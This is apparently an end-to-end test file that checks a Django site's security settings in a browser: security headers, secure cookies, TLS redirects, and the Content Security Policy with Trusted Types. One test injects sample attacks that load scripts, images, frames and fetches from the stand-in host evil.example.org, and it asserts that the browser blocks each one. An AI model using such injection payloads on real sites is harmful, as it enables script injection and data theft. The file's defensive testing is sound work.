"""The wall in a real browser, in production's settings, behind TLS: what is ours works, and what is not is stopped."""

import http.client
import shutil
import ssl
from collections.abc import Iterator
from typing import Any
from urllib.parse import urlsplit

import pytest

from tests.e2e.conftest import lacking
from tests.e2e.tls import Production
from tests.factories.accounts import PASSWORD

pytestmark = [pytest.mark.e2e, pytest.mark.slow]
EDITOR = "editora@example.org"
PEOPLE = f"""
import django; django.setup()
from allauth.mfa.recovery_codes.internal.auth import RecoveryCodes
from allauth.mfa.totp.internal.auth import TOTP, generate_totp_secret
from lms.accounts.models import User
editor = User.objects.create_superuser("{EDITOR}", "{PASSWORD}")
TOTP.activate(editor, generate_totp_secret())
print(*RecoveryCodes.activate(editor).get_unused_codes())
"""
CODES: list[str] = []  # of the editor's second factor, each good once
VIOLATIONS = (
    "document.addEventListener('securitypolicyviolation', e => told(e.effectiveDirective + ' ' + e.blockedURI))"
)
PAGES = ["/es/escritorio/", "/es/preferencias/", "/es/ediciones/", "/es/certificados/", "/es/verificar/", "/es/"]
ROOMS = ["/admin/", "/admin/images/", "/admin/images/add/", "/admin/documents/", "/admin/reports/site-history/"]
HOME = "import django; django.setup(); from lms.desk.models import HomePage; print(HomePage.objects.first().pk)"


@pytest.fixture(scope="module")
def production(browser: Any, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Production]:
    if not shutil.which("redis-server"):
        lacking("redis-server is not installed")
    with Production(tmp_path_factory.mktemp("production")).serving() as running:
        CODES[:] = running.run("-c", PEOPLE).split()
        yield running


class Visitor:
    """A browser that remembers every violation, every error in the console and every other host it asked."""

    def __init__(self, browser: Any, base: str) -> None:
        self.context = browser.new_context(base_url=base, locale="es", ignore_https_errors=True)
        self.violations: list[str] = []
        self.strangers: list[str] = []
        self.context.expose_binding("told", lambda _source, what: self.violations.append(what))
        self.context.add_init_script(VIOLATIONS)
        self.page = self.context.new_page()
        self.page.on("request", lambda request: self.note(request.url, base))

    def note(self, url: str, base: str) -> None:
        address = urlsplit(url)
        if address.scheme in {"http", "https"} and address.netloc != urlsplit(base).netloc:
            self.strangers.append(url)

    def sign_in(self) -> None:
        self.page.goto("/es/entrar/")
        self.page.fill("input[name=login]", EDITOR)
        self.page.fill("input[name=password]", PASSWORD)
        with self.page.expect_navigation():
            self.page.get_by_role("button", name="Entrar", exact=True).click()
        self.page.fill("input[name=code]", CODES.pop())
        with self.page.expect_navigation():
            self.page.press("input[name=code]", "Enter")


@pytest.fixture
def visitor(browser: Any, production: Production) -> Iterator[Visitor]:
    made = Visitor(browser, production.base)
    yield made
    made.context.close()


def ask(production: Production, path: str, *, is_plain: bool = False) -> http.client.HTTPResponse:
    line: http.client.HTTPConnection
    if is_plain:
        line = http.client.HTTPConnection("127.0.0.1", production.behind, timeout=20)
    else:
        context = ssl._create_unverified_context()
        line = http.client.HTTPSConnection("localhost", production.port, timeout=20, context=context)
    line.request("GET", path, headers={"Host": f"localhost:{production.port}"})
    return line.getresponse()


def test_headers_behind_tls(production: Production) -> None:
    answer = ask(production, "/es/entrar/")

    assert answer.status == 200
    hsts = answer.headers["Strict-Transport-Security"]
    assert "max-age=31536000" in hsts
    assert "includeSubDomains" in hsts
    assert answer.headers["Cross-Origin-Opener-Policy"] == "same-origin"
    assert answer.headers["Cross-Origin-Resource-Policy"] == "same-origin"
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert "require-trusted-types-for 'script'" in answer.headers["Content-Security-Policy"]
    cookies = answer.headers.get_all("Set-Cookie")
    assert cookies
    for cookie in cookies:
        assert cookie.startswith("__Host-")
        assert "Secure" in cookie
        assert "Path=/;" in f"{cookie};"
        assert "Domain" not in cookie
        assert "HttpOnly" in cookie
        assert "SameSite=Lax" in cookie


def test_without_tls_one_is_sent_to_it(production: Production) -> None:
    answer = ask(production, "/es/entrar/", is_plain=True)

    assert answer.status == 301
    assert answer.headers["Location"] == f"{production.base}/es/entrar/"
    assert answer.headers.get_all("Set-Cookie") is None


def test_people_meet_no_violation_and_no_other_host(visitor: Visitor) -> None:
    visitor.sign_in()
    for path in PAGES:
        answer = visitor.page.goto(path)
        assert answer.status == 200, path
        assert answer.headers["cache-control"] == "no-store, private", path
        visitor.page.wait_for_load_state("networkidle")

    cookies = {cookie["name"]: cookie for cookie in visitor.context.cookies()}
    assert {"__Host-session", "__Host-csrf"} <= set(cookies)
    assert all(cookie["secure"] and cookie["httpOnly"] and cookie["path"] == "/" for cookie in cookies.values())
    assert (visitor.violations, visitor.strangers) == ([], [])


def test_editors_rooms_work_under_their_own_policy(visitor: Visitor, production: Production) -> None:
    home = production.run("-c", HOME).strip()
    visitor.sign_in()
    for path in [*ROOMS, f"/admin/pages/{home}/", f"/admin/pages/{home}/edit/"]:
        assert visitor.page.goto(path).status == 200, path
        visitor.page.wait_for_load_state("networkidle")

    assert (visitor.violations, visitor.strangers) == ([], [])


def test_what_our_scripts_draw_is_drawn(visitor: Visitor) -> None:
    visitor.page.goto("/es/verificar/")
    file = {"name": "a.pdf", "mimeType": "application/pdf", "buffer": b"%PDF-1.7"}
    visitor.page.set_input_files("#file-check", file)
    visitor.page.get_by_text("Este no es un archivo emitido por la red").wait_for()

    assert visitor.violations == []


@pytest.mark.parametrize(
    ("attack", "directive"),
    [
        ("document.body.innerHTML = '<b>x</b>'", "require-trusted-types-for"),
        ("document.body.append(Object.assign(document.createElement('script'), {src: 'https://evil.example.org/x.js'}))",
         "require-trusted-types-for"),
        ("trustedTypes.createPolicy('other', {createHTML: x => x})", "trusted-types"),
        ("document.body.append(Object.assign(new Image(), {src: 'https://evil.example.org/x.png'}))", "img-src"),
        ("fetch('https://evil.example.org/')", "connect-src"),
        ("document.body.setAttribute('onclick', 'alert(1)')", "require-trusted-types-for"),
        ("document.body.append(Object.assign(document.createElement('iframe'), {src: 'https://evil.example.org/'}))",
         "default-src frame-src"),
        ("document.body.setAttribute('style', 'color: red')", "style-src-attr"),
    ],
    ids=["markup", "script", "policy", "picture", "fetch", "handler", "frame", "style"],
)  # fmt: skip
def test_what_is_not_ours_is_stopped(visitor: Visitor, attack: str, directive: str) -> None:
    """The control of the tests above: on the same page, each of these is a violation."""
    visitor.page.goto("/es/entrar/")

    visitor.page.evaluate(f"() => {{ try {{ {attack} }} catch (problem) {{}} }}")
    visitor.page.wait_for_timeout(500)

    assert any(told.split()[0] in directive.split() for told in visitor.violations), visitor.violations


def test_signing_out_empties_the_browser(visitor: Visitor) -> None:
    visitor.sign_in()
    visitor.page.goto("/es/escritorio/")
    visitor.page.evaluate("localStorage.setItem('unsent', 'answer')")
    visitor.page.goto("/es/salir/")
    with visitor.page.expect_navigation():
        visitor.page.locator("main form button[type=submit]").first.click()
    visitor.page.goto("/es/entrar/")

    assert visitor.page.evaluate("localStorage.getItem('unsent')") is None
    assert "__Host-session" not in {cookie["name"] for cookie in visitor.context.cookies()}
